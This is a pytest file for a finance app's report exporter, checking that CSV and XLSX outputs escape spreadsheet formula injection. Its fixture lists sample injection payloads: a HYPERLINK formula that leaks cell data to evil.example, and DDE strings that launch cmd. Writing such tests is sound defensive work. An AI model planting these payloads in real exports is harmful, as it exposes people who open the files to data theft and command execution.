"""Exports escape formulas (OWASP "CSV injection", issue 22): a member named
=HYPERLINK(...) or any text cell beginning with = + - @, a tab or a carriage return is
read back from the CSV and from the XLSX as text, never as a formula; amounts, negative
ones too, stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from mifin_tui.output.reports import render_table
from mifin_tui.services.reports.table import COUNT, MONEY, TEXT, Column, ReportTable

NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+33 1 23 45",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _table() -> ReportTable:
    return ReportTable(
        name="largest-depositors", title="=Largest depositors", subtitle="",
        columns=(Column("name", "=Name", TEXT), Column("balance", "Balance", MONEY, "USD"),
                 Column("n", "Accounts", COUNT)),
        rows=[(name, -12345 if i % 2 else 250000, i + 1) for i, name in enumerate(NAMES)]
        + [("KABILA Joseph", 100, 1)],
        notes=("@note",), institution="COOPEC Test", language="en")


def test_csv_cells_that_start_like_a_formula_are_text():
    text = render_table(_table(), "csv").decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=","))
    assert rows[0][0] == "'=Name"
    names = [r[0] for r in rows[1:1 + len(NAMES)]]
    assert names == ["'" + n for n in NAMES]
    assert rows[1 + len(NAMES)][0] == "KABILA Joseph"  # plain text untouched
    # amounts: negative ones are numbers, not escaped text
    assert [r[1] for r in rows[1:3]] == ["2500.00", "-123.45"]


def test_xlsx_cells_that_start_like_a_formula_are_strings():
    openpyxl = pytest.importorskip("openpyxl")
    data = render_table(_table(), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    texts = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for name in [*NAMES, "=Name", "=Largest depositors", "@note"]:
        name = name.replace("\r", "\n")  # XML reads a carriage return back as a newline
        assert name in texts, name
        cell = texts[name]
        assert cell.data_type == "s", (name, cell.data_type)  # not "f": no formula
        assert cell.quotePrefix, name
    assert texts["KABILA Joseph"].quotePrefix is False
    amounts = [c.value for row in sheet.iter_rows() for c in row
               if isinstance(c.value, int | float | Decimal) and c.column == 2]
    assert Decimal("-123.45") in [Decimal(str(a)) for a in amounts]
    # the file itself holds no formula element anywhere
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
